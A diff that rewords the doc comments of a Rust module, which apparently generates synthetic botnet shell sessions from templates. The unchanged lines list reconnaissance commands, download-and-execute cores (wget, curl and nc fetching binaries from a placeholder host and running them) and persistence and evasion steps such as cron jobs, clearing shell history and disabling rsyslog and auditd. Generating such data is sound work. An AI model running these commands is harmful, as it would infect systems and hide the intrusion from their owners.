@@ -1,11 +1,11 @@
-//! What bots run: openings, a core that fetches and starts something, endings; put together anew for each
-//! strain.
+//! Commands of bots: openings, a core that downloads and starts something, and endings. Each strain combines
+//! its own.
 
 use crate::generate::{commands, random::Random};
 
 use super::fill::fill;
 
-/// Looking around first.
+/// Commands that explore the system.
 const OPENINGS: &[&str] = &[
     "uname -a; nproc; free -m | grep Mem",
     "cat /proc/cpuinfo | grep -c processor; uname -m",
@@ -21,7 +21,7 @@ const OPENINGS: &[&str] = &[
     "nvidia-smi -L; lspci | grep -i vga",
 ];
 
-/// Fetching and starting.
+/// Commands that download and start.
 const CORES: &[&str] = &[
     "cd /tmp; wget http://«host»/«name».sh -O «name»; chmod 755 «name»; ./«name» ssh.«name»; rm -f «name»",
     "for a in x86 x86_64 arm7 mips; do curl -o /tmp/«name» http://«host»/bin/«name».$a; chmod +x /tmp/«name»; /tmp/«name» «n»; done",
@@ -41,7 +41,7 @@ const CORES: &[&str] = &[
     "nc «host» «port» > /tmp/.«name»; chmod u+x /tmp/.«name»; (/tmp/.«name» -d «hex» &) ; sleep «d»",
 ];
 
-/// Staying, and hiding.
+/// Commands for persistence and hiding.
 const ENDINGS: &[&str] = &[
     "(crontab -l; echo '*/«d» * * * * /tmp/«name» >/dev/null 2>&1') | crontab -",
     "history -c; rm -f ~/.bash_history",
@@ -55,12 +55,12 @@ const ENDINGS: &[&str] = &[
     "systemctl disable --now rsyslog auditd",
 ];
 
-/// A strain: what its sessions run, with gaps that each fills anew.
+/// A strain: the commands of its sessions, with placeholders that each session fills.
 #[derive(Clone, Debug)]
 pub struct Strain(Vec<String>);
 
 impl Strain {
-    /// A new one. Some look like what everybody's downloaders run.
+    /// Draws a strain. Some look like common downloaders.
     pub fn new(random: &mut Random) -> Self {
         let mut lines = Vec::new();
         for _ in 0..random.below(3) {
@@ -84,7 +84,7 @@ impl Strain {
     }
 }
 
-/// The commands of many unrelated downloaders.
+/// Commands that many unrelated downloaders use.
 fn widespread(random: &mut Random) -> String {
     let name = *random.pick(&["sh", "bins.sh", "x86_64", "bot.sh", "c.sh", "clean.sh"]);
     match random.below(2) {
